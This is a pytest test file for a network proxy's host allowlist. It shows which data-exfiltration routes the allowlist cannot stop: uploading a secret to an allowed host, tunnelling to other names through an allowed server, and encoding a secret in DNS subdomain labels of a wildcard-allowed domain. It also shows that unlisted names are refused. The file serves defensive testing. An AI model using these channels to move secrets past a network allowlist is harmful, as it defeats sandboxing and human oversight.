# SPDX-License-Identifier: ISC
"""What a list of hosts is worth and what not: each sentence of doc/security.md, "A list of hosts is no filter of contents", done
by whoever wants to get out, and beside it what holds."""
import os
import socket
import struct
import threading

import pytest
from test_netproxy import origin, proxy  # noqa: F401

SECRET = b"a secret of this host"


def test_what_is_allowed_takes_everything(proxy, origin):
    """Not held: a host that takes uploads gets what the command can read."""
    o = origin()
    p = proxy([f"alocalhost:{o.port}"])
    assert b" 200 " in p.http(f"PUT http://localhost:{o.port}/ HTTP/1.1\nHost: localhost:{o.port}\n"
                              f"Content-Length: {len(SECRET)}\nConnection: close", SECRET)
    assert o.seen[0].endswith(SECRET)


@pytest.mark.parametrize("says", [b"GET / HTTP/1.1\r\nHost: other.example\r\n\r\n", b"CONNECT other.example:443 HTTP/1.1\r\n\r\n"])
def test_a_tunnel_is_not_looked_into(proxy, origin, says):
    """Not held: a server that serves many names, or is a proxy itself, leads to all of them."""
    o = origin()
    p = proxy([f"alocalhost:{o.port}"])
    s, head = p.tunnel(f"localhost:{o.port}")
    with s:
        assert b" 200 " in head.split(b"\r\n")[0] + b" "
        s.sendall(says)
        assert s.recv(12) == b"HTTP/1.1 200"
    assert o.seen[0] == says


class NameServer:
    """Knows no name, and remembers what it was asked."""

    def __init__(self, address):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((address, 53))
        self.address, self.asked = address, []
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while True:
            query, client = self.socket.recvfrom(512)
            if not query:
                return
            labels, at = [], 12
            while query[at]:
                labels.append(query[at + 1:at + 1 + query[at]].decode())
                at += 1 + query[at]
            self.asked.append(".".join(labels))
            self.socket.sendto(query[:2] + b"\x81\x83" + query[4:6] + struct.pack(">HHH", 0, 0, 0) + query[12:at + 5], client)

    def stop(self):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"", (self.address, 53))
        self.thread.join(10)
        self.socket.close()


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root: a name server at port 53")
def test_names_carry_bits_and_only_those_that_are_allowed(proxy, tmp_path):
    """Not held: whoever serves a listed domain with a star learns the names below it. Held: a name that no list allows is
    not looked up, by whatever way it is asked for."""
    server = NameServer("127.77.0.2")
    try:
        resolv = tmp_path / "resolv.conf"
        resolv.write_text("nameserver 127.77.0.2\noptions attempts:1\n")
        p = proxy(["a*.bits.example", "Dno.bits.example"], files={"/etc/resolv.conf": resolv})
        for name in "secret.other.example", "bits.example", "no.bits.example", "secret.bits.example.evil.example":
            assert b" 403 " in p.http(f"GET http://{name}/ HTTP/1.1\nHost: {name}")
            s, head = p.tunnel(f"{name}:443")
            s.close()
            assert b" 403 " in head
        s = p.connect()
        with s:
            s.sendall(b"\5\1\0")
            assert s.recv(2) == b"\5\0"
            s.sendall(b"\5\1\0\3\x14secret.other.example\1\xbb")
            assert s.recv(10)[1] == 2
        assert not server.asked
        p.http("GET http://6120736563726574.bits.example/ HTTP/1.1\nHost: 6120736563726574.bits.example")
        assert set(server.asked) == {"6120736563726574.bits.example"}
    finally:
        server.stop()
